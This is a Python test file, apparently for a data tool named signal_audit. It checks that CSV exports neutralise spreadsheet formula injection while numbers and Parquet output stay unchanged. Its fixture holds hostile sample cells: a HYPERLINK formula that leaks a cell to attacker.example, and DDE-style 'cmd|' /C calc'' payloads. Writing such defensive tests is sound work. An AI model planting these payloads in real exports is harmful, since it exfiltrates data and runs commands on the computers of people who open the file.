"""The CSV export is safe to open in a spreadsheet: text that would run as a formula is text."""

from __future__ import annotations

import csv
import subprocess
import sys
from pathlib import Path

import duckdb
import pyarrow.parquet as pq
import pytest

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


def cli(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "signal_audit.cli", *args], cwd=cwd,
                          capture_output=True, text=True, check=False)


@pytest.fixture
def warehouse(tmp_path: Path) -> Path:
    """A warehouse whose mart carries event names a tracking setup could have sent."""
    path = tmp_path / "w.duckdb"
    con = duckdb.connect(str(path))
    con.execute("create schema marts")
    con.execute("create table marts.fct_match_quality_daily (report_date date, platform varchar, "
                "event_name varchar, events integer, gap_pct double, \"odd \"\"name\" varchar)")
    con.executemany("insert into marts.fct_match_quality_daily values (?, ?, ?, ?, ?, ?)", [
        ("2026-10-01", "meta", HYPERLINK, 5, -0.25, "x"),
        ("2026-10-01", "meta", "+cmd|' /C calc'!A0", 1, 0.1, "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("2026-10-02", "tiktok", "-2+3", 2, -1.0, "\tTAB"),
        ("2026-10-02", "tiktok", "@SUM(A1:A2)", 3, 0.0, "\rCR"),
        ("2026-10-03", "snap", "Purchase", 4, None, None),
        ("2026-10-03", "snap", "a=b, not at the start", 6, 0.5, ""),
    ])
    con.close()
    return path


def test_csv_export_neutralizes_formula_cells_and_leaves_numbers_alone(warehouse: Path, tmp_path: Path):
    result = cli("export", "--format", "csv", "--warehouse", str(warehouse), "--out", "bi", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    with open(tmp_path / "bi" / "fct_match_quality_daily.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["event_name"] for r in rows] == [
        "'" + HYPERLINK, "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1:A2)", "Purchase", "a=b, not at the start",
    ]
    assert [r['odd "name'] for r in rows] == ["x", "'@SUM(1+1)*cmd|' /C calc'!A0", "'\tTAB", "'\rCR", "", ""]
    # numbers stay numbers, a negative one included; dates and text without a formula unchanged
    assert [r["gap_pct"] for r in rows] == ["-0.25", "0.1", "-1.0", "0.0", "", "0.5"]
    assert [r["events"] for r in rows] == ["5", "1", "2", "3", "4", "6"]
    assert rows[0]["report_date"] == "2026-10-01" and rows[0]["platform"] == "meta"


def test_parquet_export_keeps_the_values_as_they_are(warehouse: Path, tmp_path: Path):
    result = cli("export", "--warehouse", str(warehouse), "--out", "bi", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    table = pq.read_table(tmp_path / "bi" / "fct_match_quality_daily.parquet")
    assert table.column("event_name").to_pylist()[0] == HYPERLINK
    assert table.column("gap_pct").to_pylist()[0] == -0.25
